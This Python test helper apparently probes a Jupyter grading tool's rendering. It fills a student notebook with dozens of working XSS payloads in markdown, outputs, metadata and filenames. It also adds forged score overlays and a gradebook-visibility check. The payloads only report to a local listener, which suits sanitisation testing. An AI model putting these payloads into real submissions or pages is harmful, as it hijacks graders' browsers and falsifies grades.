"""A submission that tries to act in the browser of whoever looks at it, and the ear that hears when it does."""

from __future__ import annotations

import base64
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

#: One black pixel.
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
#: A folder may be called so, and formgrader writes it into its pages.
STUDENT = "<img src=x onerror=window.pwned=Array('student')>"  # nbgrader refuses + and looks for [ ] elsewhere
WORDS = "I found that **larger batches** converge in fewer steps."


class Ear:
    """A server on this machine that notes what it is asked for. No page of ours ever asks it."""

    def __init__(self) -> None:
        heard = self.heard = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                # 204 leaves the page where it is; for an object it would never be loaded.
                self.send_response(204 if self.path.startswith("/form") else 404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


def act(name: str, ear: str) -> str:
    """JavaScript without quotes of the other kind: it leaves its name in the page and asks the ear."""
    return f"top.pwned=(top.pwned||[]).concat(['{name}']);fetch('{ear}/{name}',{{mode:'no-cors'}})"


def markdown(ear: str) -> dict[str, str]:
    """What a student may write, by the name of the trick."""

    def js(name: str) -> str:
        return act(name, ear)

    return {
        "script": f"Look.\n\n<script>{js('script')}</script>",
        "onerror": f'Look <img src=x onerror="{js("onerror")}"> here.',
        "svg": f'<svg onload="{js("svg")}"></svg>',
        "frame": f'<iframe srcdoc="<script>{js("frame")}</script>"></iframe>',
        "object": f'<object data="{ear}/object"></object><embed src="{ear}/embed">',
        "focus": f'<input autofocus onfocus="{js("focus")}">',
        "toggle": f'<details open ontoggle="{js("toggle")}"><summary>s</summary></details>',
        "style": f"<style>body {{ background: url({ear}/style); }} .panel {{ display: none; }}</style>",
        "refresh": f'<meta http-equiv="refresh" content="9999;url={ear}/refresh">',
        "base": f'<base href="{ear}/"><link rel="stylesheet" href="{ear}/link">',
        "form": f'<form action="{ear}/form"><button class="press">press me</button></form>',
        "link": f"[press me](javascript:{js('link').replace(' ', '').replace('(', '%28').replace(')', '%29')})",
        "file": "[press me](page.html)",
        "picture": f"![a picture]({ear}/picture.png)",
        "math": f'$$<img src=x onerror="{js("math")}">$$ and $\\href{{javascript:{js("href")}}}{{x}}$',
        "environment": f'\\begin{{align}}<img src=x onerror="{js("environment")}">\\end{{align}}',
        "fence": f'```mermaid\n</pre><img src=x onerror="{js("fence")}">\n```',
        "unfence": f'~~~\n</code></pre>\n~~~\n~~~~\n<img src=x onerror="{js("unfence")}">',
        "title": f'[press me](http://127.0.0.1:9/ "\\" onmouseover=\\"{js("title")}")',
        "comment": f'<!--><img src=x onerror="{js("comment")}">-->',
        "mutation": f'<noscript><p title="</noscript><img src=x onerror={js("mutation")}>">',
        "outside": '</div></div></div></div></div></div></main><h1 class="forged">Score: 15 / 15</h1>',
        "cover": '<div class="navbar-fixed-top forged" style="position:fixed;inset:0">full marks</div>',
        "id": "# check-predict\n\n<b id='check-split'>x</b>",
        "missing": "![gone](attachment:gone.png)",
        "deep": "> " * 500 + "<div>" * 1000 + "deep",
    }


def outputs(ear: str) -> dict[str, tuple[dict[str, object], dict[str, object]]]:
    """What a student's code may show: data and metadata, by the name of the trick."""
    picture = f'<img src=x onerror="{act("NAME", ear)}">'

    def image(name: str) -> str:
        return picture.replace("NAME", name)

    vector = act("vector", ear)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{vector}"><script>{vector}</script></svg>'
    width = f"1 onload={act('width', ear)}"
    return {
        "html": ({"text/html": image("html"), "text/plain": "<IPython.core.display.HTML object>"}, {}),
        "isolated": ({"text/html": image("isolated"), "text/plain": "x"}, {"text/html": {"isolated": True}}),
        "javascript": ({"application/javascript": act("javascript", ear), "text/plain": "x"}, {}),
        "vector": ({"image/svg+xml": svg, "text/plain": "x"}, {}),
        "output-markdown": ({"text/markdown": image("output-markdown"), "text/plain": "x"}, {}),
        "latex": ({"text/latex": f"${image('latex')}$", "text/plain": "x"}, {}),
        "width": ({"image/png": PNG, "text/plain": "x"}, {"image/png": {"width": width, "alt": '" onload="x'}}),
        "notpng": ({"image/png": f'"><script>{act("notpng", ear)}</script>', "text/plain": "x"}, {}),
        "widget": ({"application/vnd.jupyter.widget-view+json": {"model_id": "</script>" + image("widget")}}, {}),
        "table": ({"text/html": "<table><tr><td>tabled 42</td></tr></table>"}, {}),
    }


def spoil(file: Path, ear: str, seen: Path | None = None) -> None:
    """Put all of it into a submitted notebook, beside what was in it.

    seen: a file of which the submission says whether it exists where its code is run.
    """
    nb = nbformat.read(file, as_version=4)
    nb.cells += _cells(ear, seen)
    evil = f"</title><script>{act('metadata', ear)}</script>"
    nb.metadata["title"] = evil
    nb.metadata["language_info"] = {"name": "python", "pygments_lexer": f'"><script>{act("lexer", ear)}</script>'}
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": evil, "language": "python"}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x": "</script>" + evil}}}
    answer = next(c for c in nb.cells if c.cell_type == "markdown" and c.metadata.get("nbgrader", {}).get("solution"))
    answer.source = f'{WORDS}\n\n<img src=x onerror="{act("answer", ear)}">'
    nbformat.write(nb, file)
    (file.parent / "page.html").write_text(f"<script>{act('file', ear)}</script>")
    (file.parent / "<img src=x onerror=alert(1)>.ipynb").write_bytes(file.read_bytes())


def _cells(ear: str, seen: Path | None) -> list[NotebookNode]:
    cells = [new_markdown_cell(source) for source in markdown(ear).values()]
    svg = base64.b64encode(outputs(ear)["vector"][0]["image/svg+xml"].encode()).decode()
    files = {"a.svg": {"image/svg+xml": svg}, "a.png": {"image/png": PNG}}
    cells.append(new_markdown_cell("![drawn](attachment:a.svg)", attachments={"a.svg": files["a.svg"]}))
    cells.append(new_markdown_cell("![black pixel](attachment:a.png)", attachments={"a.png": files["a.png"]}))
    cells.append(new_markdown_cell("Prose: *emphasis*, `code < 1`, $a < b$.\n\n| n | t |\n|:-:|--:|\n| 1 | 2 |"))
    cells.append(new_raw_cell(f"<script>{act('raw', ear)}</script>"))
    for data, metadata in outputs(ear).values():
        source = f"from IPython.display import publish_display_data\npublish_display_data({data!r}, {metadata!r})"
        shown = new_output("display_data", data=data, metadata=metadata)
        cells.append(new_code_cell(source, outputs=[shown]))
    escape = f'\x1b[31m<img src=x onerror="{act("ansi", ear)}">\x1b[0m'
    cells.append(new_code_cell(f"print({escape!r})", outputs=[new_output("stream", text=escape)]))
    cells.append(new_code_cell(f"raise Exception({escape!r})"))
    cells.append(new_code_cell(f'%%html\n<img src=x onerror="{act("magic", ear)}">'))
    if seen is not None:
        cells.append(new_code_cell(f"import os\nprint('sees the gradebook:', os.path.exists({str(seen)!r}))"))
    return cells
